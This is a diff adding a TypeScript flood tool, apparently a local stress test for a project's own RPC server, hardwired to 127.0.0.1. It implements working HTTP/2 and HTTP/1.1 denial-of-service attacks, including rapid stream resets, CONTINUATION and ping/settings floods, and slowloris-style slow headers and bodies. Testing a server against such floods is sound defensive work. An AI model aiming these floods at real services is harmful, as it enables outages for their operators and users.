@@ -1,0 +1,158 @@
+/**
+ * A program that attacks a port: `node flood.ts '{"kind": …, "port": …}'`, see `Flood`. It writes frames of HTTP/2 and bytes of HTTP/1.1
+ * itself, so that no library keeps it within the limits of the server, and opens every connection anew that the server closes.
+ * It ends when its time is over.
+ */
+import { connect } from "node:net";
+import type { Socket } from "node:net";
+import {
+  acknowledged,
+  callHeaders,
+  emptyMessage,
+  endHeaders,
+  endStream,
+  frame,
+  headerBlock,
+  noWindow,
+  preface,
+  word,
+} from "@switchyard/rpc/testing";
+
+/** What is attacked, and how. */
+export interface Flood {
+  kind: string;
+  port: number;
+  milliseconds: number;
+  connections: number;
+  /** How many streams, or frames, or requests, each connection begins with. */
+  count: number;
+  path?: string;
+  token?: string;
+}
+
+function requestHeaders({ path = "/grpc.health.v1.Health/Check", token }: Flood): Buffer {
+  return callHeaders(path, token);
+}
+
+/** Begins `count` streams, a few hundred at a time, each of them with what `frames` gives. */
+function streams(flood: Flood, frames: (stream: number, headers: Buffer) => Buffer): (socket: Socket) => void {
+  const headers = requestHeaders(flood);
+  return (socket) => {
+    let stream = 1;
+    socket.write(Buffer.concat([preface, noWindow, acknowledged]));
+    const more = (): void => {
+      while (!socket.destroyed && stream < 2 * flood.count) {
+        const burst: Buffer[] = [];
+        for (let index = 0; index < 200 && stream < 2 * flood.count; index += 1, stream += 2)
+          burst.push(frames(stream, headers));
+        if (!socket.write(Buffer.concat(burst))) {
+          socket.once("drain", more);
+          return;
+        }
+      }
+    };
+    more();
+  };
+}
+
+/** Writes the same bytes `count` times, and again for as long as the connection lives. */
+function repeated(begin: Buffer, bytes: Buffer, count: number): (socket: Socket) => void {
+  const burst = Buffer.concat(Array.from({ length: 200 }, () => bytes));
+  return (socket) => {
+    socket.write(begin);
+    let sent = 0;
+    const more = (): void => {
+      while (!socket.destroyed && sent < count) {
+        sent += 200;
+        if (!socket.write(burst)) {
+          socket.once("drain", more);
+          return;
+        }
+      }
+    };
+    more();
+  };
+}
+
+/** Writes the bytes one at a time, one in half a second. */
+function trickled(begin: string): (socket: Socket) => void {
+  return (socket) => {
+    socket.write(begin);
+    const timer = setInterval(() => socket.write("a"), 500);
+    socket.once("close", () => clearInterval(timer));
+  };
+}
+
+const kinds: Readonly<Record<string, (flood: Flood) => (socket: Socket) => void>> = {
+  /** Connections that say nothing. */
+  silent: () => () => undefined,
+  /** HTTP/2 connections that never say anything after their settings, nor acknowledge those of the server. */
+  preface: () => (socket) => void socket.write(Buffer.concat([preface, noWindow])),
+  /** Requests that never end, of which no answer may be sent. */
+  "half open": (flood) => streams(flood, (stream, headers) => frame("headers", endHeaders, stream, headers)),
+  /** Whole requests of which no answer may be sent. */
+  unread: (flood) =>
+    streams(flood, (stream, headers) =>
+      Buffer.concat([frame("headers", endHeaders, stream, headers), frame("data", endStream, stream, emptyMessage)]),
+    ),
+  /** Requests that are taken back at once. */
+  reset: (flood) =>
+    streams(flood, (stream, headers) =>
+      Buffer.concat([frame("headers", endHeaders, stream, headers), frame("reset", 0, stream, word(8))]),
+    ),
+  ping: ({ count }) =>
+    repeated(Buffer.concat([preface, noWindow, acknowledged]), frame("ping", 0, 0, Buffer.alloc(8)), count),
+  settings: ({ count }) => repeated(Buffer.concat([preface, noWindow, acknowledged]), noWindow, count),
+  /** A header block that never ends. */
+  continuation: (flood) =>
+    repeated(
+      Buffer.concat([preface, noWindow, acknowledged, frame("headers", 0, 1, requestHeaders(flood))]),
+      frame("continuation", 0, 1, headerBlock({ "x-a": "a".repeat(100) })),
+      flood.count,
+    ),
+  /** A request whose body is many frames without a byte. */
+  "empty frames": (flood) =>
+    repeated(
+      Buffer.concat([preface, noWindow, acknowledged, frame("headers", endHeaders, 1, requestHeaders(flood))]),
+      frame("data", 0, 1),
+      flood.count,
+    ),
+  "window updates": ({ count }) =>
+    repeated(Buffer.concat([preface, noWindow, acknowledged]), frame("windowUpdate", 0, 0, word(1)), count),
+  "slow headers": () => trickled("GET /healthz HTTP/1.1\r\nhost: x\r\nx-a: "),
+  "slow body": ({ path = "/api/v1/classify", token }) =>
+    trickled(
+      `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n` +
+        `${token === undefined ? "" : `authorization: Bearer ${token}\r\n`}\r\n{"a":"`,
+    ),
+  /** Requests one after the other, of which no answer is read. */
+  "unread pages":
+    ({ path = "/openapi.json", token, count }) =>
+    (socket) => {
+      socket.pause();
+      const authorization = token === undefined ? "" : `authorization: Bearer ${token}\r\n`;
+      const request = `GET ${path} HTTP/1.1\r\nhost: x\r\n${authorization}\r\n`;
+      for (let index = 0; index < count; index += 1) socket.write(request);
+    },
+};
+
+const flood = JSON.parse(process.argv[2] ?? "{}") as Flood;
+const attack = kinds[flood.kind]?.(flood);
+if (attack === undefined) throw new Error(`There is no attack ${flood.kind}`);
+let opened = 0;
+const end = performance.now() + flood.milliseconds;
+
+function open(): void {
+  if (performance.now() > end) return;
+  opened += 1;
+  const socket = connect(flood.port, "127.0.0.1", () => attack?.(socket));
+  socket.on("error", () => undefined);
+  if (flood.kind !== "unread pages") socket.resume();
+  socket.once("close", () => setTimeout(open, 10));
+}
+
+for (let index = 0; index < flood.connections; index += 1) open();
+setTimeout(() => {
+  console.log(`${opened} connections opened`);
+  process.exit();
+}, flood.milliseconds);
